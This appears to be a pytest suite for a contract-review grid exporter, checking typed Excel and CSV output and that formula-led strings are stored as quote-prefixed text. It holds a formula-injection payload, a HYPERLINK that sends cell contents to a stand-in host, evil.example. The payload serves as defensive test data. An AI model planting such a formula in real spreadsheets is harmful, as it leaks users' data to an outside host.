"""A grid of typed columns exported as a workbook a reviewer sorts and filters: dates are dates, amounts are
numbers in their currency, percentages fractions, durations days, yes/no booleans; the name comes first, the
header row and name column are frozen, an autofilter covers the table, widths follow the content, and every
string (a formula-led document name or value included) is still guarded text. The grid is built by hand from
its parts and read back with openpyxl."""

from __future__ import annotations

import csv
import io
import math
from datetime import date, datetime

import openpyxl
import pytest

from docpipe.review.grid import Cell, Column, ReviewGrid, ReviewManifest, Row
from docpipe.review.xlsx import money_format
from docpipe.sheets import append_typed_row
from docpipe.types import Citation
from docpipe.values.kinds import Value

EVIL = '=HYPERLINK("https://evil.example/?"&A1,"Open").pdf'
LONG = "master-services-agreement-between-acme-and-beta-signed-2019.pdf"
ACME, BETA = "a" * 64, "b" * 64


def live(text: str) -> bool:
    return text[:1] in set("=+-@\t\r\n") or text.lstrip()[:1] in set("=+-@\uff1d\uff0b\uff0d\uff20")


def column(key: str, kind: str, term: str = "") -> Column:
    return Column(key=key, question=key + "?", query=key, kind=kind, term=term)


def quote(text: str, page: int) -> Citation:
    return Citation(
        section_id=f"s{page:03d}", heading="12. Term", page_start=page, page_end=page, quote=text, verified=True
    )


def present(kind: str, normalized: object, display: str, page: int = 3, **kw: str) -> Cell:
    value = Value(kind, normalized, display, as_written=kw.pop("as_written", display))
    return Cell(status="present", answer=display, quotes=[quote(f"the {display} clause", page)], value=value, **kw)


COLUMNS = [
    column("Expiration date", "date", "expiration_date"),
    column("Liability cap", "money", "liability_cap"),
    column("Late interest", "percent"),
    column("Notice to stop renewal", "duration", "notice_period"),
    column("Renews automatically", "yes_no", "auto_renewal"),
    column("Governing law", "jurisdiction", "governing_law"),
    column("Assignment", "text"),
]


def typed_grid() -> ReviewGrid:
    rows = [Row(ACME, "acme-supply.pdf"), Row(BETA, EVIL), Row("c" * 64, LONG)]
    cells = [
        [
            present("date", "2019-05-08", "2019-05-08", derivation="2014-05-08 + 5 years = 2019-05-08"),
            present("money", {"amount": 1000000.0, "currency": "USD"}, "USD 1,000,000.00"),
            present("percent", 12.5, "12.5%"),
            present("duration", {"days": 60, "count": 60, "unit": "day"}, "60 days", as_written="sixty (60) days"),
            present("yes_no", True, "Yes"),
            present("jurisdiction", "New York", "New York", page=12),
            Cell(status="present", answer="Either party may assign", quotes=[quote("Either party may assign", 9)]),
        ],
        [
            present("date", "2019-05", "May 2019"),  # partial: text
            present("money", {"amount": 250000, "currency": "EUR"}, "EUR 250,000.00"),
            present("percent", 7.1, "7.1%"),
            present("duration", {"days": 10, "count": 10, "unit": "business day"}, "10 business days"),
            present("yes_no", False, "No"),
            present("jurisdiction", "=1+1", "=1+1"),  # a value whose display leads like a formula
            Cell(status="not_found", note="no assignment clause"),
        ],
        [
            present("date", "perpetual", "perpetual"),
            present("money", {"amount": 5000.0, "currency": ""}, "5,000.00"),
            Cell(status="uncertain", answer="interest at prime", note="no rate stated"),
            present("duration", {"perpetual": True}, "perpetual"),
            Cell(status="absent"),
            present("jurisdiction", "England and Wales", "England and Wales"),
            Cell(status="failed", note="engine failed"),
        ],
    ]
    manifest = ReviewManifest(
        engine="echo",
        model=None,
        model_revision=None,
        mode="extractive",
        layout="shared",
        prompt_version="1",
        settings_fingerprint="f",
        index_fingerprint="i",
    )
    return ReviewGrid(rows=rows, columns=COLUMNS, cells=cells, manifest=manifest)


@pytest.fixture(scope="module")
def book() -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(typed_grid().to_xlsx()))


def test_the_name_comes_first_and_the_hash_last(book: openpyxl.Workbook) -> None:
    review = book["Review"]
    header = [c.value for c in review[1]]
    assert header == ["Document", *(c.key for c in COLUMNS), "Document ID (SHA-256)"]
    assert [review.cell(row=r, column=1).value for r in (2, 3, 4)] == ["acme-supply.pdf", EVIL, LONG]
    assert review.cell(row=2, column=len(header)).value == ACME


def test_typed_cells_are_excel_dates_numbers_and_booleans(book: openpyxl.Workbook) -> None:
    review = book["Review"]
    acme = {c.key: review.cell(row=2, column=n + 2) for n, c in enumerate(COLUMNS)}
    beta = {c.key: review.cell(row=3, column=n + 2) for n, c in enumerate(COLUMNS)}
    third = {c.key: review.cell(row=4, column=n + 2) for n, c in enumerate(COLUMNS)}

    expires = acme["Expiration date"]
    assert expires.is_date and expires.number_format == "yyyy-mm-dd"
    assert isinstance(expires.value, datetime) and expires.value.date() == date(2019, 5, 8)
    # A month, or no end, names no day: text.
    assert (beta["Expiration date"].value, beta["Expiration date"].data_type) == ("May 2019", "s")
    assert (third["Expiration date"].value, third["Expiration date"].data_type) == ("perpetual", "s")

    cap = acme["Liability cap"]
    assert cap.data_type == "n" and cap.value == 1_000_000 and cap.number_format == '"$"#,##0.00'
    assert beta["Liability cap"].value == 250_000 and beta["Liability cap"].number_format == '"\u20ac"#,##0.00'
    assert third["Liability cap"].value == 5000 and third["Liability cap"].number_format == "#,##0.00"

    rate = acme["Late interest"]
    assert rate.data_type == "n" and rate.value == 0.125 and rate.number_format == "0.0##%"
    assert beta["Late interest"].value == 0.071

    notice = acme["Notice to stop renewal"]
    assert notice.data_type == "n" and notice.value == 60 and notice.number_format == '0 "days"'
    assert beta["Notice to stop renewal"].value == 10
    assert beta["Notice to stop renewal"].number_format == '0 "business days"'
    assert third["Notice to stop renewal"].value == "perpetual"

    assert acme["Renews automatically"].value is True and acme["Renews automatically"].data_type == "b"
    assert beta["Renews automatically"].value is False
    assert third["Renews automatically"].value == "No"  # absent: the status text, not a boolean

    # Text kinds show the value alone, so the autofilter lists "New York" once; the pages are on Citations.
    assert acme["Governing law"].value == "New York" and third["Governing law"].value == "England and Wales"
    # A cell without a value shows its status text; a text column its answer and pages.
    assert third["Late interest"].value == "Uncertain - interest at prime"
    assert beta["Assignment"].value == "Not found" and third["Assignment"].value == "Failed"
    assert acme["Assignment"].value == "Yes - Either party may assign (p. 9)"


def test_typed_cells_keep_their_fill_and_link_to_their_citations(book: openpyxl.Workbook) -> None:
    review, citations = book["Review"], book["Citations"]
    header = [c.value for c in citations[1]]
    assert header == [
        "Document",
        "Question",
        "Status",
        "Answer",
        "Value",
        "As written",
        "Derivation",
        "Quote",
        "Pages",
        "Section",
        "Verified",
        "Note",
    ]
    expires = review.cell(row=2, column=2)
    assert expires.fill.fgColor.rgb.endswith("C6EFCE")
    assert review.cell(row=4, column=4).fill.fgColor.rgb.endswith("FFEB9C")  # uncertain
    linked = citations[int(expires.hyperlink.location.rpartition("!A")[2])]
    got = dict(zip(header, (c.value for c in linked)))
    assert got["Document"] == "acme-supply.pdf" and got["Question"] == "Expiration date"
    assert got["Value"] == "2019-05-08" and got["Derivation"] == "2014-05-08 + 5 years = 2019-05-08"
    assert got["Pages"] == "p. 3" and got["Quote"] == "the 2019-05-08 clause"
    notice = review.cell(row=2, column=5)
    got = dict(zip(header, (c.value for c in citations[int(notice.hyperlink.location.rpartition("!A")[2])])))
    assert got["Value"] == "60 days" and got["As written"] == "sixty (60) days"


def test_the_table_is_filtered_frozen_sized_and_wrapped(book: openpyxl.Workbook) -> None:
    review = book["Review"]
    last = openpyxl.utils.get_column_letter(review.max_column)
    assert review.auto_filter.ref == f"A1:{last}{review.max_row}" == f"A1:{last}4"
    assert review.freeze_panes == "B2"  # the header row and the name column
    widths = {letter: review.column_dimensions[letter].width for letter in "ABCDEFGHI"}
    assert widths["A"] == 48  # the longest name, 63 characters, at the upper bound: it wraps
    assert all(10 <= w <= 48 for w in widths.values())
    assert widths["B"] == len("Expiration date") + 2  # a date is narrower than its header
    assert widths[last] == 18  # the hash spills right, unwrapped
    assert review["H2"].alignment.wrap_text and review["A1"].alignment.wrap_text
    assert not review[f"{last}2"].alignment.wrap_text
    citations = book["Citations"]
    assert citations.freeze_panes == "B2" and citations.auto_filter.ref == f"A1:L{citations.max_row}"


def test_strings_in_a_typed_grid_are_still_guarded(book: openpyxl.Workbook) -> None:
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.value is None:
                    continue
                where = f"{sheet.title}!{cell.coordinate} {cell.value!r}"
                assert cell.data_type in ("s", "n", "b", "d"), f"{where} is of type {cell.data_type!r}"
                if isinstance(cell.value, str):
                    assert cell.data_type == "s", where
                    if live(cell.value):
                        assert cell.quotePrefix, f"{where} leads like a formula without the quote prefix"
    review = book["Review"]
    assert review["A3"].value == EVIL and review["A3"].quotePrefix
    assert review["G3"].value == "=1+1" and review["G3"].data_type == "s" and review["G3"].quotePrefix


def test_csv_shows_typed_values_and_citations_carry_value_words_and_derivation() -> None:
    grid = typed_grid()
    header, acme, beta, _ = list(csv.reader(io.StringIO(grid.to_csv(), newline="")))
    assert header[:3] == ["document", "document_id", "Expiration date"]
    assert acme[2:5] == ["2019-05-08 (p. 3)", "USD 1,000,000.00 (p. 3)", "12.5% (p. 3)"]
    assert beta[0] == "'" + EVIL and beta[7] == "'=1+1 (p. 3)"
    rows = list(csv.DictReader(io.StringIO(grid.citations_csv(), newline="")))
    assert list(rows[0]) == [
        "document",
        "document_id",
        "question",
        "status",
        "answer",
        "value",
        "as_written",
        "derivation",
        "quote",
        "pages",
        "section",
        "verified",
        "note",
    ]
    expires = rows[0]
    assert (expires["value"], expires["derivation"]) == ("2019-05-08", "2014-05-08 + 5 years = 2019-05-08")
    notice = next(r for r in rows if r["document"] == "acme-supply.pdf" and r["question"] == "Notice to stop renewal")
    assert (notice["value"], notice["as_written"]) == ("60 days", "sixty (60) days")
    assert next(r for r in rows if r["document"] == "'" + EVIL and r["question"] == "Governing law")["value"] == "'=1+1"


def test_money_formats_name_the_currency() -> None:
    assert [money_format(c) for c in ("USD", "EUR", "GBP", "CHF", "")] == [
        '"$"#,##0.00',
        '"\u20ac"#,##0.00',
        '"\u00a3"#,##0.00',
        '"CHF "#,##0.00',
        "#,##0.00",
    ]


def test_the_typed_row_writer_keeps_only_what_excel_holds_exactly() -> None:
    book = openpyxl.Workbook()
    sheet = book.active
    values = [date(2020, 1, 2), 3, 2.5, True, math.nan, 2**60, datetime(2020, 1, 2, 3, 4), "=1+1", None]
    append_typed_row(sheet, values)
    saved = io.BytesIO()
    book.save(saved)
    got = openpyxl.load_workbook(saved).active[1]
    assert [c.data_type for c in got[1:4]] == ["n", "n", "b"]
    assert got[0].is_date and got[1].value == 3 and got[2].value == 2.5 and got[3].value is True
    # NaN, an integer past 2**53 and a datetime with its time are text, as is a formula.
    assert [c.value for c in got[4:8]] == ["nan", str(2**60), "2020-01-02 03:04:00", "=1+1"]
    assert all(c.data_type == "s" for c in got[4:8]) and got[7].quotePrefix


def test_a_lawyer_reads_headings_the_marked_sentence_in_bold_and_no_hash(tmp_path) -> None:
    """The Citations sheet names each quote's section by its heading, folds the PDF's line breaks and sets the
    marked sentence in bold (rich text); the Review sheet keeps the hash in a hidden column (issue 27)."""
    from dataclasses import replace

    marked = replace(
        quote("Either party may assign\nthis Agreement with consent. Notices go to the address above.", 9),
        heading="14.2 Assignment",
        highlight="Either party may assign this Agreement with consent.",
    )
    formula = replace(quote("=HYPERLINK(evil) may assign", 9), highlight="=HYPERLINK(evil) may assign")
    grid = typed_grid()
    grid.cells[0][6] = Cell(status="present", answer="Either party may assign", quotes=[marked, formula])
    path = tmp_path / "grid.xlsx"
    grid.to_xlsx(path)
    book = openpyxl.load_workbook(path, rich_text=True)
    review, citations = book["Review"], book["Citations"]
    last = openpyxl.utils.get_column_letter(review.max_column)
    assert review.column_dimensions[last].hidden and review[f"{last}1"].value == "Document ID (SHA-256)"
    header = [c.value for c in citations[1]]
    rows = [dict(zip(header, (c.value for c in row))) for row in citations.iter_rows(min_row=2)]
    mine = [r for r in rows if r["Question"] == "Assignment" and r["Document"] == "acme-supply.pdf"]
    rich, guarded = mine
    assert rich["Section"] == "14.2 Assignment"
    runs = list(rich["Quote"])  # CellRichText: plain text and bold blocks
    bold = [run for run in runs if not isinstance(run, str) and run.font.b]
    assert [run.text for run in bold] == ["Either party may assign this Agreement with consent."]
    assert "".join(run if isinstance(run, str) else run.text for run in runs).endswith("the address above.")
    assert guarded["Quote"] == "=HYPERLINK(evil) may assign"  # formula-led: plain, quote-prefixed text
    cell = next(c for c in citations["H"] if c.value == "=HYPERLINK(evil) may assign")
    assert cell.quotePrefix and cell.data_type == "s"
